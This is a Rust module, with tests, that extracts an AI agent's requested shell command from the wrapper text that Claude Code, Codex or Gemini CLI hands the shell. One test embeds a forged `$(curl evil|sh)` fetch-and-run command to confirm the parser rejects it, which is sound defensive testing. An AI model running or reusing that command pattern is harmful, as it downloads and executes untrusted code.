//! What an agent asked to run, recovered from the shell text its CLI actually hands
//! the shell. A `spice exec` wrapper sees that text, not the agent's command: each CLI
//! wraps the command in its own set-up, and the command itself appears only quoted,
//! near the end of a string that can be tens of kilobytes long. A brief that quoted the
//! text as seen would name the CLI's set-up and cut the command off.
//!
//! The wrappings recognised (checked with Claude Code 2.1.197 and Codex 0.171.0, both
//! interactive and headless):
//!
//! - Claude Code: `source <snapshot> 2>/dev/null || true && shopt -u extglob 2>/dev/null
//!   || true && eval <command> [< /dev/null] && pwd -P >| <cwd file>`. The command is a
//!   single shell word: bare when it is one plain word, else single-quoted with each
//!   `'` written `'"'"'`. Other set-up steps may come before `eval` (zsh's `setopt`,
//!   the session's environment script), none after it but the `pwd`.
//! - Codex: `__CODEX_SNAPSHOT_OVERRIDE…` captures, `if . '<snapshot>' >/dev/null 2>&1;
//!   then :; fi`, restores and a `PATH` export, then the line `exec '<shell>' -c
//!   '<command>'`, quoted the same way. Codex skips it while the session's snapshot is
//!   not ready (a headless process's first command), and the command is then as is.
//! - Gemini CLI (0.61): `shopt -u <options>; _bgpids_file=<file>`, then a subshell
//!   `(`, its `trap 'jobs -p > "$_bgpids_file"' EXIT` line, the command verbatim (trimmed)
//!   on the lines after it, `)`, `__code=$?` and `exit $__code`.
//!
//! Invariant: only text that parses as exactly such a wrapping is unwrapped, and the
//! command word must be literal (quotes only: no expansion, no operator), so the result
//! is exactly what the shell would run. Anything else comes back unchanged: the
//! agent's own command when no CLI wrapped it, and a wrapping of a form not known here.
//! Claude Code rewrites `>nul` to `>/dev/null` in a command with no `<`, `$` or
//! backquote before wrapping it; that rewrite is what ran, and is kept.

/// The command the agent asked to run, given the shell text its CLI ran (see the module
/// docs); `recorded` itself when it is no wrapping recognised here.
pub fn agent_command(recorded: &str) -> String {
    claude(recorded)
        .or_else(|| codex(recorded))
        .or_else(|| gemini(recorded))
        .unwrap_or_else(|| recorded.to_string())
}

/// The shell program's name in `path`, if it is a POSIX-style shell that takes `-c`.
pub(super) fn is_shell(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh")
}

/// A shell's `-c` flag, possibly with other single-letter options (`-lc`).
pub(super) fn is_command_flag(flag: &str) -> bool {
    flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('c')
}

/// The step Claude Code always runs last, and the only one after the command.
const CLAUDE_CWD: &str = " && pwd -P >| ";

fn claude(s: &str) -> Option<String> {
    let cwd = s.rfind(CLAUDE_CWD)?;
    if words(&s[cwd + CLAUDE_CWD.len()..])?.len() != 1 {
        return None;
    }
    let body = &s[..cwd];
    // Today's redirect is the shell's; an older one (`\<`) was two more words for
    // `eval`, which ran them as part of the command.
    let body = [" < /dev/null", " \\< /dev/null"]
        .iter()
        .find_map(|r| body.strip_suffix(r))
        .unwrap_or(body);
    // The first `eval` whose argument runs to the end is Claude's own: the set-up
    // before it is fixed text, and an `&& eval` inside the command is quoted.
    let first = body.starts_with("eval ").then_some(0);
    first
        .into_iter()
        .chain(body.match_indices(" && eval ").map(|(i, _)| i + 4))
        .find_map(|at| match words(&body[at + "eval ".len()..])?.as_slice() {
            [command] => Some(command.clone()),
            _ => None,
        })
}

fn codex(s: &str) -> Option<String> {
    if !(s.starts_with("__CODEX_SNAPSHOT_") || s.starts_with("if . '")) {
        return None;
    }
    // As for Claude: the preamble holds no `exec` line, the command's own are quoted.
    s.match_indices("\nexec ")
        .find_map(|(i, m)| match words(&s[i + m.len()..])?.as_slice() {
            [shell, flag, command, ..] if is_shell(shell) && is_command_flag(flag) => {
                Some(command.clone())
            }
            _ => None,
        })
}

/// What Gemini CLI puts around the command (see the module docs).
const GEMINI_TRAP: &str = "\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n";
const GEMINI_END: &str = "\n)\n__code=$?\nexit $__code";

fn gemini(s: &str) -> Option<String> {
    let (head, rest) = s.split_once(GEMINI_TRAP)?;
    // The guard names options, plain words: anything else is not Gemini's wrapping.
    let head = match head.strip_prefix("shopt -u ") {
        Some(h) => {
            let (options, after) = h.split_once("; ")?;
            let plain = |w: &str| !w.is_empty() && w.bytes().all(|b| b.is_ascii_lowercase());
            if !options.split(' ').all(plain) {
                return None;
            }
            after
        }
        None => head,
    };
    let file = head.strip_prefix("_bgpids_file=")?;
    if file.contains('\n') || words(file)?.len() != 1 {
        return None;
    }
    let command = rest.strip_suffix(GEMINI_END)?;
    // A command ending in a backslash is given a space, so the `)` stays its own.
    let command = match command.strip_suffix(' ') {
        Some(c) if c.ends_with('\\') => c,
        _ => command,
    };
    Some(command.to_string())
}

/// `s` as the shell would split it into words, when it is nothing but literal words
/// separated by blanks: quoting is undone; an operator, an expansion, a glob, a
/// comment, a line break or an unclosed quote makes it `None`.
fn words(s: &str) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => out.extend(word.take()),
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => w.push(c),
                    }
                }
            }
            '"' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '"' => break,
                        '$' | '`' => return None,
                        '\\' => match chars.next()? {
                            '\n' => {}
                            c @ ('$' | '`' | '"' | '\\') => w.push(c),
                            c => {
                                w.push('\\');
                                w.push(c);
                            }
                        },
                        c => w.push(c),
                    }
                }
            }
            '\\' => match chars.next()? {
                '\n' => {}
                c => word.get_or_insert_with(String::new).push(c),
            },
            c if c.is_whitespace() || "|&;<>()$`*?[]{}~#!".contains(c) => return None,
            c => word.get_or_insert_with(String::new).push(c),
        }
    }
    out.extend(word);
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Claude Code's wrapping as 2.1.197 writes it for bash, around `eval_word` (the
    /// command already quoted, with its redirect if any).
    fn claude(eval_word: &str) -> String {
        format!(
            "source /root/.claude/shell-snapshots/snapshot-bash-1796000000000-k3x9qa.sh \
             2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval {eval_word} \
             && pwd -P >| /tmp/claude-4f0c-cwd"
        )
    }

    /// Codex 0.171's wrapping around `exec_line`, with the capture and restore blocks
    /// for `vars` (it writes them for 7 runtime and 49 proxy variables: ~38 KB).
    fn codex(vars: &[&str], exec_line: &str) -> String {
        let mut s = String::new();
        for (i, v) in vars.iter().enumerate() {
            s += &format!(
                "__CODEX_SNAPSHOT_OVERRIDE_SET_{i}=\"${{{v}+x}}\"\n__CODEX_SNAPSHOT_OVERRIDE_{i}=\"${{{v}-}}\"\n"
            );
        }
        s += "__CODEX_SNAPSHOT_PROXY_ENV_SET=\"${CODEX_NETWORK_PROXY_ACTIVE+x}\"\n\n";
        s += "if . '/root/.codex/shell_snapshots/019b2c4e-77d1-7a30-9e2f-5c8d0b1a2e3f.1796000000000000000.sh' >/dev/null 2>&1; then :; fi\n\n";
        for (i, v) in vars.iter().enumerate() {
            s += &format!(
                "if [ -n \"${{__CODEX_SNAPSHOT_OVERRIDE_SET_{i}}}\" ]; then\n  if [ -z \"${{{v}+x}}\" ] || [ \"${{{v}-}}\" != \"${{__CODEX_SNAPSHOT_OVERRIDE_{i}}}\" ]; then export {v}=\"${{__CODEX_SNAPSHOT_OVERRIDE_{i}}}\"; else export {v}; fi\nelse builtin unset {v} 2>/dev/null || command unset {v}; fi\nbuiltin unset __CODEX_SNAPSHOT_OVERRIDE_SET_{i} __CODEX_SNAPSHOT_OVERRIDE_{i} 2>/dev/null || command unset __CODEX_SNAPSHOT_OVERRIDE_SET_{i} __CODEX_SNAPSHOT_OVERRIDE_{i}\n"
            );
        }
        s += "if [ -n \"${PATH:-}\" ]; then export PATH='/opt/codex/vendor/codex-path':\"$PATH\"; else export PATH='/opt/codex/vendor/codex-path'; fi\n\n";
        s + exec_line
    }

    const VARS: [&str; 3] = [
        "CODEX_PERMISSION_PROFILE",
        "CODEX_THREAD_ID",
        "CODEX_TOOL_CALL_ID",
    ];

    /// (the quoted word as both CLIs write it, the command the agent asked for)
    const QUOTED: [(&str, &str); 9] = [
        ("'sleep 120; echo never'", "sleep 120; echo never"),
        // Single and double quotes, an escaped `$`: one `'` becomes `'"'"'`.
        (
            r#"'echo '"'"'it'"'"'"'"'"'"'"'"'s'"'"' "dq \"x\" \$HOME"'"#,
            r#"echo 'it'"'"'s' "dq \"x\" \$HOME""#,
        ),
        // A heredoc: line breaks stay inside the quotes.
        (
            "'cat > notes.txt <<'\"'\"'EOF'\"'\"'\nit'\"'\"'s $HOME\nEOF\nwc -l notes.txt'",
            "cat > notes.txt <<'EOF'\nit's $HOME\nEOF\nwc -l notes.txt",
        ),
        (
            "'echo '\"'\"'one\ntwo'\"'\"' | cat'",
            "echo 'one\ntwo' | cat",
        ),
        (
            r#"'echo it\'"'"'s; echo "$(date +%s)" `true` a\\b'"#,
            r#"echo it\'s; echo "$(date +%s)" `true` a\\b"#,
        ),
        // A plain word is not quoted at all.
        ("./scripts/check.sh", "./scripts/check.sh"),
        // The command's own `&& eval`, `&& pwd -P >|` and `exec` lines are quoted.
        (
            r#"'cd sub && eval "$SETUP" && pwd -P >| out.txt'"#,
            r#"cd sub && eval "$SETUP" && pwd -P >| out.txt"#,
        ),
        (
            "'cd sub\nexec '\"'\"'/bin/sh'\"'\"' -c '\"'\"'echo inner'\"'\"''",
            "cd sub\nexec '/bin/sh' -c 'echo inner'",
        ),
        // `'\''` is the other usual way to write a quote.
        (r"'echo '\''hi'\'' there'", "echo 'hi' there"),
    ];

    #[test]
    fn claude_codes_eval_line_gives_the_agents_command() {
        for (word, command) in QUOTED {
            // Claude adds `< /dev/null` unless the command reads its own stdin or is a
            // heredoc.
            for redirect in ["", " < /dev/null"] {
                let wrapped = claude(&format!("{word}{redirect}"));
                assert_eq!(agent_command(&wrapped), command, "{wrapped}");
            }
        }
        for (wrapped, command) in [
            // No snapshot (a login shell then), and zsh's set-up step.
            (
                "shopt -u extglob 2>/dev/null || true && eval 'make test' < /dev/null && pwd -P >| /tmp/claude-0c1d-cwd",
                "make test",
            ),
            (
                "source /home/u/.claude/shell-snapshots/snapshot-zsh-1796000000000-p2q8rt.sh 2>/dev/null || true && setopt NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL 2>/dev/null || true && eval 'ls -la' < /dev/null && pwd -P >| /tmp/claude-77aa-cwd",
                "ls -la",
            ),
            // The session's environment script (CLAUDE_ENV_FILE, hooks) before it.
            (
                "source /s.sh 2>/dev/null || true && export A=1 && eval x\n: && shopt -u extglob 2>/dev/null || true && eval 'echo $A' < /dev/null && pwd -P >| /tmp/claude-1e2f-cwd",
                "echo $A",
            ),
            // An older form: the redirect escaped, so `eval` ran it with the command.
            (
                r"source /s.sh 2>/dev/null || true && eval 'sleep 120; echo never' \< /dev/null && pwd -P >| /tmp/claude-9f1e-cwd",
                "sleep 120; echo never",
            ),
        ] {
            assert_eq!(agent_command(wrapped), command, "{wrapped}");
        }
    }

    #[test]
    fn codexs_snapshot_preamble_gives_the_agents_command() {
        for (word, command) in QUOTED {
            let wrapped = codex(&VARS, &format!("exec '/bin/bash' -c {word}"));
            assert_eq!(agent_command(&wrapped), command, "{wrapped}");
        }
        // With no overrides to restore, only the snapshot line; another shell; the
        // arguments after the script.
        for wrapped in [
            "if . '/root/.codex/shell_snapshots/a.sh' >/dev/null 2>&1; then :; fi\n\nexec '/bin/zsh' -c 'make test'",
            "if . '/root/.codex/shell_snapshots/a.sh' >/dev/null 2>&1; then :; fi\n\nexec '/bin/bash' -c 'make test' 'arg0' 'it'\"'\"'s'",
        ] {
            assert_eq!(agent_command(wrapped), "make test", "{wrapped}");
        }
    }

    /// Codex's real preamble is ~38 KB, and a command may be longer than a brief quotes.
    #[test]
    fn a_long_command_comes_whole_out_of_a_long_wrapping() {
        let vars: Vec<String> = (0..56).map(|i| format!("CODEX_VAR_{i}")).collect();
        let vars: Vec<&str> = vars.iter().map(String::as_str).collect();
        let command = format!("printf '%s\\n' {} | wc -l; sleep 120", "x".repeat(400));
        let quoted = format!("'{}'", command.replace('\'', r#"'"'"'"#));
        let wrapped = codex(&vars, &format!("exec '/bin/bash' -c {quoted}"));
        assert!(wrapped.len() > 30_000, "{}", wrapped.len());
        assert_eq!(agent_command(&wrapped), command);
        assert_eq!(agent_command(&claude(&quoted)), command);
    }

    /// Gemini CLI 0.61's wrapping (its `wrapCommandForBackgroundPIDs` behind its shopt
    /// guard), around commands of every shape: it does not quote them.
    #[test]
    fn gemini_clis_subshell_gives_the_agents_command() {
        let wrap = |c: &str| {
            format!(
                "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/x/gemini-shell-Ab12/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n{c}\n)\n__code=$?\nexit $__code"
            )
        };
        for command in [
            "echo start; sleep 120; echo 'never'",
            "cat <<EOF\n)\n__code=$?\nEOF",
            "ls \\",
        ] {
            let wrapped = if command.ends_with('\\') {
                wrap(&format!("{command} "))
            } else {
                wrap(command)
            };
            assert_eq!(agent_command(&wrapped), command);
        }
        let forged = wrap("ls").replacen("dotglob", "$(curl evil|sh)", 1);
        assert_eq!(
            agent_command(&forged),
            forged,
            "a guard of other words is no wrapping"
        );
        let no_guard = wrap("make test").replacen(
            "shopt -u promptvars nullglob extglob nocaseglob dotglob; ",
            "",
            1,
        );
        assert_eq!(agent_command(&no_guard), "make test");
    }

    #[test]
    fn a_command_no_cli_wrapped_is_unchanged() {
        for plain in [
            "sleep 120; echo never",
            "eval 'sleep 1'",
            "make && pwd -P >| out",
            "exec '/bin/bash' -c 'x'",
            "source a.sh && eval 'x' && pwd -P >| two words",
            // Expansions in the command word: what ran is not known from the text.
            "source a.sh && eval \"$CMD\" < /dev/null && pwd -P >| /tmp/claude-1-cwd",
            "source a.sh && eval $CMD && pwd -P >| /tmp/claude-1-cwd",
            "source a.sh && eval 'unclosed && pwd -P >| /tmp/claude-1-cwd",
            "if . '/s.sh' >/dev/null 2>&1; then :; fi\n\nexec /usr/bin/env -c 'x'",
            "__CODEX_SNAPSHOT_X=1\nexec '/bin/bash' -c \"$X\"",
            "",
        ] {
            assert_eq!(agent_command(plain), plain);
        }
    }

    /// The test's wrappings are read by bash itself: with `eval` (Claude) or `exec`
    /// (Codex) standing in as a function that prints what it was given, bash prints
    /// the same command.
    #[test]
    fn bash_reads_the_same_command_from_the_wrappings() {
        let dir = tempfile::tempdir().unwrap();
        let cwd_file = format!("{}/claude-4f0c-cwd", dir.path().display());
        for (word, command) in QUOTED {
            for (stub, wrapped) in [
                (
                    r#"eval() { printf %s "$*"; }; pwd() { :; }; "#,
                    claude(&format!("{word} < /dev/null"))
                        .replace("/tmp/claude-4f0c-cwd", &cwd_file),
                ),
                (
                    r#"exec() { printf %s "$3"; }; "#,
                    codex(&VARS, &format!("exec '/bin/bash' -c {word}")),
                ),
            ] {
                let out = std::process::Command::new("bash")
                    .arg("-c")
                    .arg(format!("{stub}{wrapped}"))
                    .output()
                    .unwrap();
                assert_eq!(String::from_utf8_lossy(&out.stdout), command, "{wrapped}");
                assert_eq!(agent_command(&wrapped), command);
            }
        }
    }

    /// Claude Code's quoting of a command: bare when it is one plain word.
    fn claude_quote(c: &str) -> String {
        let plain = !c.is_empty()
            && c.chars()
                .all(|ch| ch.is_ascii_alphanumeric() || "_./:=@+,-".contains(ch));
        if plain {
            c.to_string()
        } else {
            format!("'{}'", c.replace('\'', r#"'"'"'"#))
        }
    }

    proptest::proptest! {
        #[test]
        fn any_wrapped_command_comes_back(c in "\\PC{0,80}|[ -~\n]{0,200}") {
            let claude_wrapped = claude(&format!("{} < /dev/null", claude_quote(&c)));
            proptest::prop_assert_eq!(agent_command(&claude_wrapped), c.clone());
            let codex_wrapped = codex(
                &VARS,
                &format!("exec '/bin/bash' -c '{}'", c.replace('\'', r#"'"'"'"#)),
            );
            proptest::prop_assert_eq!(agent_command(&codex_wrapped), c);
        }

        #[test]
        fn other_text_is_left_alone(c in "[ -~\n]{0,200}") {
            proptest::prop_assume!(!c.contains(CLAUDE_CWD) && !c.starts_with("__CODEX_SNAPSHOT_") && !c.starts_with("if . '"));
            proptest::prop_assert_eq!(agent_command(&c), c);
        }
    }
}
